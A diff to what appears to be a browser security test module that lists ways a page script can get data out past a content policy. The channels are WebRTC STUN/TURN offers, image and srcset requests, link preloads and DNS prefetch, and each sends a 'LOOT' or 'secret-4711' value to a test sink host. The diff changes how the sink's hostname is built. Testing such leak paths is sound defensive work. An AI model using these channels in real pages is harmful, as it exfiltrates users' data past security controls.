@@ -1,5 +1,5 @@
 /**
- * Ways by which a script in a page could get a byte out. Each takes a sink (`{ url, host, port }`) of its own and
+ * Ways by which a script in a page could get a byte out. Each takes a sink (`{ url, host, name, port }`) of its own and
  * tries; none cleans up after itself, as each runs in a page of its own. Served as a real file, because code that is
  * evaluated through the developer tools is exempt from parts of the policy.
  */
@@ -39,7 +39,7 @@ export const PAGE_CHANNELS = {
   'webrtc-turn-tcp': (sink) =>
     offer(window, [{ urls: `turn:${sink.host}:${sink.port}?transport=tcp`, username: LOOT, credential: 'x' }]),
   'webrtc-of-empty-frame': (sink) => offer(add('iframe', {}).contentWindow, [{ urls: `stun:${sink.host}:${sink.port}` }]),
-  'webrtc-dns': (sink) => offer(window, [{ urls: `stun:secret-4711.sink-${sink.port}.example:${sink.port}` }]),
+  'webrtc-dns': (sink) => offer(window, [{ urls: `stun:secret-4711.${sink.name}:${sink.port}` }]),
   image: (sink) => (new Image().src = `${sink.url}/?${LOOT}`),
   'image-srcset': (sink) => add('img', { srcset: `${sink.url}/?${LOOT} 1x` }),
   'svg-image': (sink) => {
@@ -88,7 +88,7 @@ export const PAGE_CHANNELS = {
   preload: link('preload', { as: 'image' }),
   'module-preload': link('modulepreload'),
   preconnect: link('preconnect'),
-  'dns-prefetch': (sink) => add('link', { rel: 'dns-prefetch', href: `//secret-4711.sink-${sink.port}.example` }, document.head),
+  'dns-prefetch': (sink) => add('link', { rel: 'dns-prefetch', href: `//secret-4711.${sink.name}` }, document.head),
   stylesheet: link('stylesheet'),
   icon: link('icon'),
   manifest: link('manifest'),
